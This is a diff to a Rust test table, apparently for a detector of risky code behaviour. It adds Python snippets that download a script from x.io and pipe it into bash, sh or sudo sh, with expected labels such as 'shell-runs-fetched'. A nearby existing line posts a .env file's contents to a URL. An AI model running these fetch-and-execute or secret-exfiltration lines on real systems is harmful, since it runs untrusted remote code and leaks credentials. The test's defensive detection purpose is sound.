@@ -109,6 +109,49 @@ fn the_network() {
                 r#"import requests; r = requests.get("http://x.io"); exec(r.text)"#,
                 "connect http://x.io; runs-fetched",
             ),
+            (
+                r#"import subprocess, urllib.request
+script = urllib.request.urlopen("http://x.io").read()
+subprocess.run(["bash"], input=script)"#,
+                "connect http://x.io; start bash; shell-runs-fetched",
+            ),
+            (
+                r#"import subprocess, requests
+subprocess.check_output(["sudo", "sh", "-s"], input=requests.get("http://x.io").text.encode())"#,
+                "connect http://x.io; start sudo|sh|-s; shell-runs-fetched",
+            ),
+            (
+                r#"import subprocess, requests
+subprocess.run("bash", shell=True, input=requests.get("http://x.io").content)"#,
+                "connect http://x.io; shell bash; shell-runs-fetched",
+            ),
+            (
+                r#"import subprocess, requests
+p = subprocess.Popen(["bash"], stdin=subprocess.PIPE)
+p.communicate(requests.get("http://x.io").content)"#,
+                "start bash; connect http://x.io; shell-runs-fetched",
+            ),
+            (
+                r#"import subprocess, requests
+p = subprocess.Popen(["sh", "-s"], stdin=subprocess.PIPE)
+p.stdin.write(requests.get("http://x.io").content)"#,
+                "start sh|-s; connect http://x.io; shell-runs-fetched",
+            ),
+            (
+                r#"import subprocess, requests
+subprocess.run(["jq", "."], input=requests.get("http://x.io").content)"#,
+                "connect http://x.io; start jq|.",
+            ),
+            (
+                r#"import subprocess, requests
+subprocess.run(["bash", "import.sh"], input=requests.get("http://x.io").content)"#,
+                "connect http://x.io; start bash|import.sh",
+            ),
+            (
+                r#"import subprocess
+subprocess.run(["bash"], input="ls")"#,
+                "start bash",
+            ),
             (r#"import requests as r; requests.post(u, data=open(".env").read())"#, "read .env; connect *?"),
             (r#"import http.client; http.client.HTTPSConnection("x.io")"#, "connect https://x.io"),
             (
